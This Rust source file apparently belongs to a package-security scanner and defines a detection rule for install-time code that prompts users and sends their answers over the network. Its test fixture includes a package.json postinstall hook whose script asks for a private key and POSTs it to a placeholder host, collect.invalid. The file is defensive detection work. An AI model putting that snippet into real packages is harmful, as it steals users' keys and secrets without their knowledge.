//! What the user types while a package is installed leaves over the network.

use super::{Context, Declaration, Example, Finding, judge, runs_on_install};
use crate::model::{Severity, SurfaceKind};

pub(super) static FINDING: Declaration = Declaration {
    id: "prompt-exfiltration",
    title: "Sends what the user types",
    severity: Severity::Critical,
    summary: "A question is put to the user while the package is installed or imported, and the answer reaches a request or a socket. Nothing has to be asked to install a package.",
    advice: "If you answered, change that password or move what that key guards, at once.",
    benign_when: "A command that the user runs signs in to the service that it belongs to.",
    references: &["CWE-506", "T1041", "T1056"],
    examples: &[
        Example {
            name: "an install script asks for a key and posts it",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const rl = require("readline").createInterface({ input: process.stdin });
rl.question("Private key: ", (key) => fetch("https://collect.invalid/", { method: "POST", body: key }));"#,
                ),
            ],
        },
        Example {
            name: "a command asks for a name and sends it",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","bin":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const rl = require("readline").createInterface({ input: process.stdin });
rl.question("Name: ", (name) => fetch("https://service.example/", { method: "POST", body: name }));"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for flow in context.flows {
        let unasked = runs_on_install(flow.reach) || flow.reach.loads_on(SurfaceKind::Import);
        if flow.id != "input-to-network" || !unasked {
            continue;
        }
        let question = flow.source.target.as_deref().unwrap_or("a question");
        let host = flow
            .sink
            .target
            .as_deref()
            .unwrap_or("a host that is not resolved");
        let message = format!("the answer to {question:?} is sent to {host}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        judge::by_destination(context, flow, &flow.sink, Severity::High, &mut finding);
        found.push(finding);
    }
}
